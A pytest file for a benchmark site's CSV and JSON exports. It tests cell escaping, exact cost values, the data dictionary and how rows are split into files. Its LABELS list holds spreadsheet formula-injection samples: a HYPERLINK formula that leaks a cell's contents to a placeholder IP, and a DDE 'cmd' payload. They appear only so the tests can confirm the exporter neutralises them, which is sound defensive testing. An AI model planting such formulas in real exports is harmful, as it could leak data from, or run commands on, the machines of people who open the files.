"""The published data files: read back by readers that are not ours, they say what the rows say."""

import csv
import io
import json
import re
from dataclasses import asdict
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from sitegen.aggregate import results
from sitegen.exports import files
from sitegen.exports.columns import COLUMNS
from sitegen.inputs import Inputs
from sitegen.records.site import SiteConfig
from tests.unit.aggregate.rows import api_row, imported_row, suite

LABELS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "+1+1",
    "@SUM(A1)",
    "-2+3+cmd|' /C x'!A0",
    "\t=1",
    "\n=1",
    "\uff1d1+1",
    "'=1",
    "''",
    "plain",
    "a, b",
    'a "b"',
    "a\nb",
    " a ",
    "é ☕ <b>&amp;",
    "NA",
    "1e5",
    "007",
]
HARMLESS = LABELS[LABELS.index("plain") :]


def whole_table(rows):
    return files.results_csv(files.csv_lines(found, cohort) for cohort, found in rows.items())


def read(rows, cohort="c"):
    text = whole_table({cohort: rows}).decode()
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def _labelled():
    return [api_row(n, model_label=label, source=label) for n, label in enumerate(LABELS)]


def test_no_label_is_a_formula_and_every_label_can_be_had_back():
    found = read(_labelled())
    assert [row["run"] for row in found] == [f"r{n}" for n in range(len(LABELS))]
    for label, row in zip(LABELS, found, strict=True):
        assert row["model_label"][0] not in "=+-@\t\n\r\uff1d\uff0b\uff0d\uff20"
        assert row["model_label"] == label if label in HARMLESS else row["model_label"] == f"'{label}"
        assert row["model_label"].removeprefix("'") == label.removeprefix("'" if label in HARMLESS else "")


def test_a_label_with_a_carriage_return_is_marked_too():
    assert b",'\r=1," in whole_table({"c": [api_row(1, model_label="\r=1")]})


def test_the_data_notes_say_how_to_undo_the_mark():
    (note,) = json.loads(files.dictionary_json())["notes"]
    for sign in ("=", "+", "-", "@", "full width", "tab", "line end", "apostrophe"):
        assert sign in note


def test_json_keeps_the_true_labels():
    listed = json.loads(files.rows_json(_labelled(), "c"))
    assert [row["model_label"] for row in listed] == LABELS


def test_pandas_reads_the_table():
    rows = [*_labelled(), api_row(99, values={"wall_ms": None, "input": 2**53 - 1, "cost_ticks": 85_500_000})]
    data = io.BytesIO(whole_table({"c": rows}))
    table = pd.read_csv(data, dtype_backend="numpy_nullable", keep_default_na=False, na_values=[""])
    assert len(table) == len(rows)
    assert list(table.columns) == [column.name for column in COLUMNS]
    assert table["model_label"].tolist()[: len(LABELS)] == [row["model_label"] for row in read(_labelled())]
    last: Any = table.iloc[-1]
    assert pd.isna(last["wall_ms"])
    assert last["input"] == 2**53 - 1
    assert str(last["cost_usd"]) == "0.00855"
    assert table["fixture"].tolist() == [False] * len(rows)


def test_unknown_is_empty_and_zero_is_zero():
    (row,) = read(
        [api_row(1, values={"wall_ms": None, "input": 0, "cost_ticks": None}, price=None, checks_passed=None)]
    )
    assert (row["wall_ms"], row["input"], row["cost_ticks"], row["cost_usd"]) == ("", "0", "", "")
    assert (row["price"], row["checks_passed"], row["fixture"], row["artifact_lost"]) == ("", "", "false", "false")


def test_a_measure_of_another_protocol_is_empty_in_the_table_and_absent_in_json():
    (row,) = read([imported_row(1)])
    assert (row["turns"], row["trial_ms"]) == ("", "10")
    (listed,) = json.loads(files.rows_json([imported_row(1)], "c"))
    assert "turns" not in listed
    assert listed["trial_ms"] == 10


def test_one_row_per_run_with_its_cohort_in_order():
    text = whole_table({"c1": [api_row(2), api_row(1)], "c2": [api_row(3)], "c3": []}).decode()
    found = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(row["cohort"], row["address"]) for row in found] == [("c1", "s--r2"), ("c1", "s--r1"), ("c2", "s--r3")]
    assert text.endswith("\n")
    assert "\r" not in text


@pytest.mark.parametrize(
    ("ticks", "dollars"), [(0, "0"), (1, "0.0000000001"), (10**10, "1"), (2**53 - 1, "900719.9254740991")]
)
def test_cost_in_dollars_is_exact(ticks, dollars):
    (row,) = read([api_row(1, values={"cost_ticks": ticks})])
    assert (row["cost_ticks"], row["cost_usd"]) == (str(ticks), dollars)


SITE = SiteConfig.model_validate(
    {
        "schema": 1,
        "title": "t",
        "description": "d",
        "organization": "o",
        "data_set": {"version": "1.0.0", "date": "2026-11-30"},
    }
)


def _refuse(text):
    raise ValueError(f"{text} is no JSON number")


def _published(rows, limit=None):
    known = {row.suite: suite(row.suite) for row in rows}
    numbers, groups = results(Inputs(SITE, tuple(known.values()), tuple(rows), (), (), ()))
    parts = {group.id: files.rows_json(group.rows, group.id) for group in groups}
    fitting = parts.values() if files.rows_fit(len(part) for part in parts.values()) else None
    text = files.results_json(numbers, {"version": "1.0.0", "date": "2026-11-30"}, parts, fitting)
    return numbers, json.loads(text, parse_constant=_refuse)


def test_results_hold_every_number_and_no_number_that_is_not_finite():
    """A cohort of one run, one without runs, one with a zero base, one that was not started."""
    rows = [
        api_row(1, values={"wall_ms": 0, "cost_ticks": 0}),
        api_row(2, model="m-two", values={"wall_ms": None, "cost_ticks": None}, cost_basis=None, price=None),
        api_row(3, model="m-three", status="not_started", reported=()),
    ]
    numbers, found = _published(rows)
    assert found["cohorts"] == json.loads(json.dumps([asdict(one) for one in numbers.cohorts]))
    assert found["suites"] == json.loads(json.dumps([asdict(one) for one in numbers.suites]))
    by_model = {one["key"]["model"]: one for one in found["cohorts"]}
    states = {model: one["measures"][0]["all_runs"]["state"] for model, one in by_model.items()}
    assert states == {"m-one": "known", "m-two": "unavailable", "m-three": "no_runs"}
    assert by_model["m-three"]["build_check"] == {"count": 0, "n": 0, "percent": None}
    assert [row["address"] for row in found["rows"]] == [one for cohort in found["cohorts"] for one in cohort["runs"]]
    assert "row_files" not in found


def test_many_rows_go_to_a_file_per_cohort(monkeypatch):
    monkeypatch.setattr(files, "ROWS_MAX_BYTES", 3_000)
    _, found = _published([api_row(n) for n in (1, 2, 3)])
    (cohort,) = found["cohorts"]
    assert found["row_files"] == {cohort["id"]: f"benchmarks/cohorts/{cohort['id']}.json"}
    assert "rows" not in found


@pytest.mark.parametrize(("size", "fits"), [(4_999_999, True), (5_000_000, False), (5_000_001, False)])
def test_rows_fit_below_five_megabytes(size, fits):
    assert files.rows_fit([1_000_000, size - 1_000_000]) == fits


def test_rows_of_cohorts_are_joined_whatever_is_empty():
    numbers, _ = _published([])
    parts = [b"[]", b'[{"n":1},{"n":2}]', b"[]", b"[0]"]
    found = json.loads(files.results_json(numbers, {"version": "1.0.0"}, "abcd", parts))
    assert found["rows"] == [{"n": 1}, {"n": 2}, 0]
    assert (found["schema"], found["data_set"]) == (1, {"version": "1.0.0"})


def test_no_content_gives_empty_lists():
    _, found = _published([])
    assert (found["rows"], found["cohorts"], found["claims"]) == ([], [], [])


def test_the_dictionary_names_every_column_once_with_its_meaning():
    dictionary = json.loads(files.dictionary_json())
    assert dictionary["schema"] == 1
    columns = dictionary["columns"]
    names = [column["name"] for column in columns]
    assert len(set(names)) == len(names)
    assert names == next(csv.reader(io.StringIO(whole_table({}).decode())))
    for column in columns:
        assert column["meaning"].endswith(".")
        assert column["type"] in ("text", "integer", "boolean", "decimal")
        assert column["part_of"] is None or column["part_of"] in names
    units = {column["name"]: column["unit"] for column in columns}
    assert (units["wall_ms"], units["input"], units["cost_ticks"], units["turns"]) == ("ms", "tokens", "ticks", None)


@pytest.mark.parametrize(
    ("reported", "text"),
    [(("a", "b"), "a;b"), (("a;", "b"), "a\\;;b"), (("a", ";b"), "a;\\;b"), (("a\\", "b"), "a\\\\;b"), ((), "")],
)
def test_ids_with_a_semicolon_can_be_told_apart(reported, text):
    assert api_row(reported=reported).reported_models == text
    assert tuple(one.replace("\0", ";").replace("\\\\", "\\") for one in _halves(text)) == reported


def _halves(text):
    """Split as the dictionary says; an escaped semicolon becomes a NUL first."""
    marked = re.sub(r"\\(.)", lambda match: "\0" if match[1] == ";" else "\\\\", text)
    return marked.split(";") if marked else []


ROOT = Path(__file__).parents[3]
EVIDENCE = ROOT / "content/evidence"
JSON_FILES = {
    "results": [ROOT / "tests/golden/benchmarks/results.json"],
    "dictionary": [ROOT / "tests/golden/benchmarks/dictionary.json"],
    "run": [*EVIDENCE.glob("*/runs/*-r[1-6]/run.json"), *EVIDENCE.glob("tb-*/runs/h*/run.json")],
    "suite": [*EVIDENCE.glob("*/suite.json")],
    "protocol": [*EVIDENCE.glob("*/protocol.json")],
    "review": [*EVIDENCE.glob("*/runs/*/review.json")],
    "task": [*EVIDENCE.glob("*/tasks/*.json")],
}


def _places(value, place=""):
    """Yield every pointer of a document, the items of a list as one."""
    if isinstance(value, dict):
        for name, member in value.items():
            yield f"{place}/{name}"
            yield from _places(member, f"{place}/{name}")
    elif isinstance(value, list):
        for item in value:
            yield from _places(item, f"{place}/{{place}}")


@pytest.mark.parametrize("name", JSON_FILES)
def test_the_dictionary_names_every_field_of_every_json_file(name):
    """Below an object that may have any member, and in rows, whose columns stand apart, nothing more is named."""
    dictionary = json.loads(files.dictionary_json())
    named = {one["field"] for one in dictionary["fields"] if one["file"] == name}
    ends = {field for field in named if not any(other.startswith(f"{field}/") for other in named)}
    assert JSON_FILES[name]
    for file in JSON_FILES[name]:
        for place in set(_places(json.loads(file.read_bytes()))):
            assert place in named or any(place.startswith(f"{end}/") for end in ends), (file.name, place)
    assert all(one["meaning"].endswith(".") for one in dictionary["fields"])


@pytest.mark.parametrize("name", files.SCHEMAS)
def test_every_schema_is_a_document_whose_fields_are_described(name):
    schema = json.loads(files.schema_json(name), parse_constant=_refuse)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    for definition in schema.get("$defs", {}).values():
        for field, said in definition.get("properties", {}).items():
            assert said.get("description") or said.get("$ref"), (definition.get("title"), field)
